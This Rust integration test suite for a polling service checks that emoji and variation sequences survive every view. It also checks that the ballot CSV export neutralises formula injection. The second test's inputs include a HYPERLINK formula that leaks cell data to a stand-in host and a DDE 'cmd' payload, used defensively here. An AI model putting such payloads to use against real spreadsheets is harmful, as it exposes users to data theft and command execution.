//! Texts as people wrote them, through the whole pipeline: emoji with presentation selectors,
//! ZWJ sequences, subdivision flags (tag sequences) and ideographic variation sequences come
//! back byte for byte from every view, and the ballot export hands a spreadsheet none of the
//! formulas voters and owners typed.

use std::time::Duration;

use pollstream_testkit::SocketClient;
use pollstream_testkit::polls::{create_poll, option_ids};
use pollstream_testkit::stack::Stack;
use reqwest::StatusCode;
use serde_json::{Value, json};

/// ❤️, 1️⃣, 🏳️‍🌈, the England, Scotland and Wales flags and 葛󠄀飾, spelled code point by code
/// point so that no editor or formatter can drop a selector or a tag.
const AS_WRITTEN: [&str; 7] = [
    "\u{2764}\u{FE0F}",
    "1\u{FE0F}\u{20E3}",
    "\u{1F3F3}\u{FE0F}\u{200D}\u{1F308}",
    "\u{1F3F4}\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}",
    "\u{1F3F4}\u{E0067}\u{E0062}\u{E0073}\u{E0063}\u{E0074}\u{E007F}",
    "\u{1F3F4}\u{E0067}\u{E0062}\u{E0077}\u{E006C}\u{E0073}\u{E007F}",
    "\u{845B}\u{E0100}\u{98FE}",
];

/// The texts of a poll as a view shows them: the question, then each option's text in order.
fn texts_of(poll: &Value) -> (String, Vec<String>) {
    let options = poll["options"]
        .as_array()
        .unwrap_or_else(|| panic!("no options: {poll}"))
        .iter()
        .map(|o| o["text"].as_str().unwrap().to_owned())
        .collect();
    (poll["question"].as_str().unwrap_or("").to_owned(), options)
}

/// The ballot export of `code` as its owner `presenter` downloads it, parsed by the `csv` crate.
async fn ballots_csv(stack: &Stack, code: &str) -> (String, Vec<csv::StringRecord>) {
    let response = stack
        .http
        .get(format!("{}/api/v1/polls/{code}/ballots.csv", stack.api))
        .bearer_auth(stack.token("presenter"))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::OK);
    let body = response.text().await.unwrap();
    let mut reader = csv::Reader::from_reader(body.as_bytes());
    assert_eq!(
        reader.headers().unwrap().iter().collect::<Vec<_>>(),
        [
            "vote_id",
            "voter_id",
            "option_ids",
            "options",
            "cast_at",
            "counted_at"
        ]
    );
    let rows = reader.records().map(Result::unwrap).collect();
    (body, rows)
}

/// Votes `voters[i]` for option `i`, then waits until REST results count them all.
async fn vote_each(stack: &Stack, code: &str, ids: &[String], voters: &[String]) -> Value {
    for (voter, option) in voters.iter().zip(ids) {
        assert_eq!(
            stack.vote(code, voter, option).await,
            StatusCode::ACCEPTED,
            "{voter}"
        );
    }
    let total = voters.len() as i64;
    pollstream_testkit::eventually(Duration::from_secs(60), || async {
        let results = stack.results(code).await;
        (results["total"] == total).then_some(results)
    })
    .await
    .unwrap_or_else(|| panic!("REST results never reached {total}"))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn emoji_flags_and_variation_sequences_come_back_as_written() {
    let stack = Stack::start("texts-as-written", 200).await;
    let question = format!("Which one? {}", AS_WRITTEN.join(" "));
    let poll = create_poll(
        &stack.http,
        &stack.api,
        &stack.token("presenter"),
        &json!({ "question": question, "options": AS_WRITTEN, "kind": "single" }),
    )
    .await;
    let expected = (question.clone(), AS_WRITTEN.map(str::to_owned).to_vec());
    assert_eq!(texts_of(&poll), expected, "as created: {poll}");
    let code = poll["code"].as_str().unwrap().to_owned();
    let ids = option_ids(&poll);

    let shown: Value = stack
        .http
        .get(format!("{}/api/v1/polls/{code}", stack.api))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(texts_of(&shown), expected, "GET of the poll: {shown}");

    let mut screen = SocketClient::connect(&stack.realtime).await;
    let joined = screen.request("join", json!({ "code": code })).await;
    assert_eq!(joined["pollId"], poll["id"], "{joined}");

    let voters: Vec<String> = (0..AS_WRITTEN.len()).map(|i| format!("fan-{i}")).collect();
    let results = vote_each(&stack, &code, &ids, &voters).await;
    let result_texts: Vec<String> = results["options"]
        .as_array()
        .unwrap()
        .iter()
        .map(|o| o["text"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(result_texts, expected.1, "REST results: {results}");
    // Socket.IO carries option ids and counts, no texts: each id is the created option's.
    let update = screen
        .wait_for(Duration::from_secs(30), |l| {
            l["event"] == "poll-results" && l["data"]["total"] == AS_WRITTEN.len()
        })
        .await
        .expect("the screen never saw every vote");
    let update_ids: Vec<&str> = update["data"]["options"]
        .as_array()
        .unwrap()
        .iter()
        .map(|o| o["optionId"].as_str().unwrap())
        .collect();
    assert_eq!(update_ids, ids, "{update}");

    let (body, rows) = ballots_csv(&stack, &code).await;
    assert_eq!(rows.len(), AS_WRITTEN.len(), "{body}");
    for (voter, text) in voters.iter().zip(AS_WRITTEN) {
        let row = rows
            .iter()
            .find(|r| &r[1] == voter)
            .unwrap_or_else(|| panic!("{voter} missing: {body}"));
        assert_eq!(row[3].as_bytes(), text.as_bytes(), "{voter}");
    }

    screen.close().await;
    stack.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn exported_cells_cannot_run_as_formulas() {
    let stack = Stack::start("csv-injection", 200).await;
    let leak = r#"=HYPERLINK("http://x/leak?x="&A2,"a")"#;
    let options = [leak, "+1", "-2", "@SUM(A1)", "\tx", "\ry", "plain"];
    let poll = create_poll(
        &stack.http,
        &stack.api,
        &stack.token("presenter"),
        &json!({ "question": "=1+1", "options": options, "kind": "single" }),
    )
    .await;
    let (_, stored) = texts_of(&poll);
    // A tab or a carriage return is whitespace, trimmed from both ends before anything is
    // stored, so those two options can never begin a cell with it.
    assert_eq!(
        stored,
        [leak, "+1", "-2", "@SUM(A1)", "x", "y", "plain"],
        "{poll}"
    );
    let code = poll["code"].as_str().unwrap().to_owned();
    let ids = option_ids(&poll);
    let voters: Vec<String> = [
        "=cmd|' /C calc'!A0",
        "+voter",
        "-voter",
        "@voter",
        "tab-voter",
        "cr-voter",
        "plain-voter",
    ]
    .map(str::to_owned)
    .to_vec();
    vote_each(&stack, &code, &ids, &voters).await;

    let (body, rows) = ballots_csv(&stack, &code).await;
    assert_eq!(rows.len(), voters.len(), "{body}");
    let neutral = |cell: &str| match cell.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{cell}"),
        _ => cell.to_owned(),
    };
    for (voter, text) in voters.iter().zip(&stored) {
        let row = rows
            .iter()
            .find(|r| r[1] == neutral(voter))
            .unwrap_or_else(|| panic!("{voter} missing or not neutralised: {body}"));
        assert_eq!(&row[3], neutral(text), "{voter}: {body}");
        for cell in row.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell a spreadsheet would run: {cell:?} in {body}"
            );
        }
    }
    assert_eq!(
        &rows
            .iter()
            .find(|r| &r[1] == "'=cmd|' /C calc'!A0")
            .unwrap()[3],
        format!("'{leak}")
    );
    assert_eq!(
        &rows.iter().find(|r| &r[1] == "plain-voter").unwrap()[3],
        "plain"
    );

    stack.stop().await;
}
